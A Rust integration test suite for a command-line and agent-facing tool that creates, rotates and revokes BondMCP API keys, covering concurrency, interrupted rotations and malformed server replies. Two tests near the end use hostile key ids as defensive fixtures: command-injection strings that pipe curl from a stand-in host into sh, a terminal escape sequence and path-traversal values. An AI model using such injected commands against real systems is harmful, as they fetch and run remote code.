//! API keys: the permissions of a rotated key, concurrent rotations, interrupted changes, and invalid ids.

use std::process::Stdio;

use crate::common::{EMAIL, Place, Server, like_the_seed, sandbox, secrets, within};
use bondmcp_server::{
    bondmcp::{
        Client, Timing,
        wire::{ApiKey, Permission},
    },
    clock::Clock,
    redact::Redactor,
    sandbox::{Fault, RunningSandbox},
    secret::SecretString,
};
use serde_json::{Value, json};
use sqlx::{Connection as _, SqliteConnection};

const LIST: &str = "GET /auth/api-keys";
const CREATE: &str = "POST /auth/api-keys";
const VERIFY: &str = "GET /health-ai/models";
const REVOKE: &str = "DELETE /auth/api-keys/{id}";

/// A signed-in place with one read-only key, and the key's id.
async fn with_a_key() -> (RunningSandbox, Place, String) {
    let sandbox = sandbox(like_the_seed()).await;
    let place = Place::new(&sandbox);
    place.sign_in().await;
    assert_eq!(place.run(&["keys", "create", "--name", "ci", "--permission", "read"]).await.0, Some(0));
    let (id, _) = sandbox.live_keys(EMAIL).remove(0);
    (sandbox, place, id)
}

/// A client of the upstream, and a token for it.
async fn upstream(place: &Place) -> (Client, SecretString) {
    let base_url = place.base_url.parse().unwrap();
    let client = Client::new(base_url, Redactor::default(), Clock::system(), Timing::default());
    let token = client.login(EMAIL, &place.password).await.unwrap().access_token;
    (client, token)
}

/// The keys as the upstream lists them.
async fn listed(place: &Place) -> Vec<ApiKey> {
    let (client, token) = upstream(place).await;
    client.list_api_keys(&token).await.unwrap()
}

/// Rotates `id` in a process that meets `fault` at `endpoint`, and kills it there.
async fn rotation_killed_at(sandbox: &RunningSandbox, place: &Place, id: &str, endpoint: &str, fault: Fault) {
    let before = sandbox.count(endpoint);
    sandbox.faults().next(endpoint, fault.clone());
    let mut command = place.command(&["keys", "rotate", id, "--yes"]);
    let mut child = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    within(sandbox.faults().arrived(endpoint, before + 1)).await;
    if let Fault::ProcessThenHang = fault {
        within(sandbox.faults().processed(endpoint, 1)).await;
    }
    child.kill().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rotated_key_keeps_its_permissions() {
    let (sandbox, place, id) = with_a_key().await;
    assert_eq!(place.run(&["keys", "rotate", &id, "--yes"]).await.0, Some(0));
    let [key] = &listed(&place).await[..] else { panic!("one key") };
    assert_ne!(key.id, id);
    assert_eq!(key.permissions, Some(vec![Permission::Read]));
    // BondMCP's reference lists no permissions; then the requested ones apply.
    let bare = json!({"api_keys": [{"id": key.id, "name": "ci"}]});
    sandbox.faults().next(LIST, Fault::Answer(bare));
    assert_eq!(place.run(&["keys", "rotate", &key.id, "--yes"]).await.0, Some(0));
    let [again] = &listed(&place).await[..] else { panic!("one key") };
    assert_ne!(again.id, key.id);
    assert_eq!(again.permissions, Some(vec![Permission::Read]));
    // An unknown permission is passed on unchanged.
    let unknown = json!({"api_keys": [{"id": again.id, "name": "ci", "permissions": ["read", "audit"]}]});
    sandbox.faults().next(LIST, Fault::Answer(unknown));
    assert_eq!(place.run(&["keys", "rotate", &again.id, "--yes"]).await.0, Some(0));
    let expected = Some(vec![Permission::Read, Permission::Other("audit".to_owned())]);
    assert_eq!(listed(&place).await[0].permissions, expected);
}

/// As where names are unique: to create a key is to give the one of that name a new value.
#[tokio::test(flavor = "multi_thread")]
async fn a_key_that_gets_its_new_value_under_its_old_id_is_not_revoked() {
    let (sandbox, place, id) = with_a_key().await;
    let server = Server::start(&place).await;
    server.ok("manage_api_keys", json!({"action": "use", "key_id": id})).await;
    let (client, token) = upstream(&place).await;
    let renewed = client.regenerate_api_key(&token, &id).await.unwrap();
    let answer = json!({"id": id, "name": "ci", "api_key": secrets::text(&renewed.api_key)});
    sandbox.faults().next(CREATE, Fault::Answer(answer));
    server.ok("manage_api_keys", json!({"action": "rotate", "key_id": id, "confirm": "ci"})).await;
    assert_eq!(sandbox.count(REVOKE), 0);
    let list = place.keys().await;
    let [key] = &list["keys"].as_array().unwrap()[..] else { panic!("one key: {list}") };
    assert_eq!((&key["id"], &key["stored"], &key["in_use"]), (&json!(id), &json!(true), &json!(true)));
    assert_eq!(list["unfinished"], json!([]));
    server.ok("list_models", json!({ "refresh": true })).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_rotations_of_one_key_at_once_in_one_process_make_one_key() {
    let (sandbox, place, id) = with_a_key().await;
    let server = Server::start(&place).await;
    let created = sandbox.count(CREATE);
    sandbox.faults().next(CREATE, Fault::Hold);
    let rotate =
        || server.call("manage_api_keys", json!({"action": "rotate", "key_id": id, "confirm": "ci"}));
    let held = async {
        within(sandbox.faults().arrived(CREATE, created + 1)).await;
        sandbox.faults().release();
    };
    let (one, two, ()) = tokio::join!(rotate(), rotate(), held);
    let failed = [one, two].into_iter().filter(|outcome| outcome.as_ref().unwrap().is_error == Some(true));
    assert_eq!(failed.count(), 1);
    assert_eq!((sandbox.count(CREATE) - created, sandbox.live_keys(EMAIL).len()), (1, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn two_rotations_of_one_key_at_once_in_two_processes_make_one_key() {
    let (sandbox, place, id) = with_a_key().await;
    let created = sandbox.count(CREATE);
    sandbox.faults().next(CREATE, Fault::Hold);
    let held = async {
        within(sandbox.faults().arrived(CREATE, created + 1)).await;
        sandbox.faults().release();
    };
    let words = ["keys", "rotate", &id, "--yes"];
    let (one, two, ()) = tokio::join!(place.run(&words), place.run(&words), held);
    let mut codes = [one.0, two.0];
    codes.sort_unstable();
    assert_eq!(codes, [Some(0), Some(1)], "{} {}", one.2, two.2);
    assert_eq!((sandbox.count(CREATE) - created, sandbox.live_keys(EMAIL).len()), (1, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_interrupted_rotation_goes_on_although_an_older_one_made_nothing() {
    let (sandbox, place, id) = with_a_key().await;
    rotation_killed_at(&sandbox, &place, &id, CREATE, Fault::Hang).await;
    rotation_killed_at(&sandbox, &place, &id, VERIFY, Fault::Hang).await;
    let (created, live) = (sandbox.count(CREATE), sandbox.live_keys(EMAIL));
    let made = live.iter().map(|(id, _)| id).find(|made| **made != id).unwrap();
    assert_eq!(place.run(&["keys", "rotate", &id, "--yes"]).await.0, Some(0));
    assert_eq!(sandbox.count(CREATE), created, "no further key is made");
    assert_eq!(sandbox.live_keys(EMAIL), [(made.clone(), "ci".to_owned())]);
    assert_eq!(place.keys().await["unfinished"], json!([]));
}

/// Rotates `id` while the new key is revoked before it is tested, and `meanwhile` happens; returns what was told.
async fn failed_rotation(
    sandbox: &RunningSandbox,
    place: &Place,
    id: &str,
    meanwhile: impl Future<Output = ()>,
) -> String {
    let (client, token) = upstream(place).await;
    let (before, known) = (sandbox.count(VERIFY), sandbox.live_keys(EMAIL));
    sandbox.faults().next(VERIFY, Fault::Hold);
    let held = async {
        within(sandbox.faults().arrived(VERIFY, before + 1)).await;
        let made = sandbox.live_keys(EMAIL).into_iter().find(|key| !known.contains(key)).unwrap().0;
        client.revoke_api_key(&token, &made).await.unwrap();
        meanwhile.await;
        sandbox.faults().release();
    };
    let words = ["keys", "rotate", id, "--yes"];
    let ((code, _, told), ()) = tokio::join!(place.run(&words), held);
    assert_eq!(code, Some(1), "{told}");
    told
}

async fn in_use(place: &Place) -> Option<String> {
    let list = place.keys().await;
    let key = list["keys"].as_array().unwrap().iter().find(|key| key["in_use"] == true)?;
    Some(key["id"].as_str().unwrap().to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_chosen_while_a_new_key_is_tested_stays_chosen() {
    for chooses_key in [true, false] {
        let (sandbox, place, id) = with_a_key().await;
        assert_eq!(place.run(&["keys", "create", "--name", "other"]).await.0, Some(0));
        assert_eq!(place.run(&["keys", "use", &id]).await.0, Some(0));
        let keys = sandbox.live_keys(EMAIL);
        let other = keys.into_iter().map(|(id, _)| id).find(|other| *other != id).filter(|_| chooses_key);
        let choose = async {
            let words: Vec<&str> = ["keys", "use"].into_iter().chain(other.as_deref()).collect();
            assert_eq!(place.run(&words).await.0, Some(0));
        };
        failed_rotation(&sandbox, &place, &id, choose).await;
        assert_eq!(in_use(&place).await, other);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_resumed_rotation_whose_new_key_does_not_work_leaves_the_old_one_in_use() {
    let (sandbox, place, id) = with_a_key().await;
    assert_eq!(place.run(&["keys", "use", &id]).await.0, Some(0));
    rotation_killed_at(&sandbox, &place, &id, VERIFY, Fault::Hang).await;
    place.end_leases().await;
    sandbox.faults().next(VERIFY, Fault::Status(401));
    assert_eq!(place.run(&["keys", "rotate", &id, "--yes"]).await.0, Some(1));
    assert_eq!(in_use(&place).await.as_deref(), Some(&*id));
    assert_eq!(place.run(&["keys", "rotate", &id, "--yes"]).await.0, Some(0));
    assert_eq!(in_use(&place).await, Some(sandbox.live_keys(EMAIL).remove(0).0));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rotation_whose_new_key_does_not_work_says_so_although_the_vault_fails_too() {
    let (sandbox, place, id) = with_a_key().await;
    assert_eq!(place.run(&["keys", "use", &id]).await.0, Some(0));
    let fail_writes = async {
        let vault = format!("sqlite://{}", place.data_dir().join("vault.db").display());
        let mut database = SqliteConnection::connect(&vault).await.unwrap();
        let sql = "CREATE TRIGGER fails BEFORE UPDATE ON records BEGIN SELECT RAISE(ABORT, 'failed'); END";
        sqlx::raw_sql(sql).execute(&mut database).await.unwrap();
        database.close().await.unwrap();
    };
    let told = failed_rotation(&sandbox, &place, &id, fail_writes).await;
    assert!(told.contains(&format!("rotation of API key {id} to")), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn revoking_the_old_key_leaves_the_trace_of_the_one_whose_making_was_interrupted() {
    let (sandbox, place, id) = with_a_key().await;
    rotation_killed_at(&sandbox, &place, &id, CREATE, Fault::ProcessThenHang).await;
    assert_eq!(place.run(&["keys", "revoke", &id, "--yes"]).await.0, Some(0));
    let [(orphan, _)] = &sandbox.live_keys(EMAIL)[..] else { panic!("one key lives") };
    assert_eq!(place.keys().await["unfinished"][0]["lost_key_ids"], json!([orphan]));
    assert_eq!(place.run(&["keys", "revoke", orphan, "--yes"]).await.0, Some(0));
    assert_eq!(place.keys().await["unfinished"], json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_id_from_bondmcp_that_is_no_id_is_an_error_and_is_not_shown() {
    let (sandbox, place, _) = with_a_key().await;
    let hostile = ["key_1;curl evil|sh #", "\u{1b}]0;evil\u{7}", "..", "evil\nline", &"evil".repeat(40)];
    for id in hostile {
        let list = json!({"api_keys": [{"id": id, "name": "ci"}]});
        sandbox.faults().next(LIST, Fault::Answer(list));
        let (code, shown, told) = place.run(&["keys", "list"]).await;
        assert_eq!((code, shown.as_str()), (Some(1), ""), "{id:?}");
        assert!(told.contains("not in BondMCP's format") && !told.contains("evil"), "{told}");
        sandbox.faults().next(CREATE, Fault::Answer(json!({"id": id, "name": "ci", "api_key": "k"})));
        let (code, shown, told) = place.run(&["keys", "create", "--name", "ci"]).await;
        assert_eq!((code, shown.as_str()), (Some(1), ""), "{id:?}");
        assert!(!told.contains("evil"), "{told}");
        let session = json!({"access_token": "t", "expires_in": 3600, "user": {"id": id}});
        sandbox.faults().next("POST /auth/login", Fault::Answer(session));
        let (code, _, told) = place.run_with_password("login").await;
        assert_eq!(code, Some(1), "{id:?}");
        assert!(!told.contains("evil"), "{told}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_id_from_an_agent_is_never_repeated_and_one_that_is_no_id_is_not_sent() {
    let (sandbox, place, _) = with_a_key().await;
    let server = Server::start(&place).await;
    let before = sandbox.counts();
    for id in ["evil;curl x|sh #", "..", "", "evil/../x"] {
        for action in ["usage", "use"] {
            let error = server.error("manage_api_keys", json!({"action": action, "key_id": id})).await;
            assert_eq!(error["kind"], "invalid_input", "{action} {id:?}");
            assert!(!error.to_string().contains("evil"), "{error}");
        }
    }
    assert_eq!(sandbox.counts(), before);
    for action in ["usage", "use"] {
        let error: Value =
            server.error("manage_api_keys", json!({"action": action, "key_id": "key_evil"})).await;
        assert_eq!(error["kind"], "not_found", "{action}");
        assert!(!error.to_string().contains("evil"), "{error}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_creation_that_is_answered_with_303_reports_the_key_that_it_made() {
    let (sandbox, place, id) = with_a_key().await;
    sandbox.faults().next(CREATE, Fault::ProcessThenStatus(303));
    let (code, _, told) = place.run(&["keys", "create", "--name", "other"]).await;
    assert_eq!(code, Some(1));
    let live = sandbox.live_keys(EMAIL);
    let (made, _) = live.iter().find(|(made, _)| *made != id).unwrap();
    assert!(told.contains(made), "{told}");
    assert_eq!(place.keys().await["unfinished"][0]["lost_key_ids"], json!([made]));
}
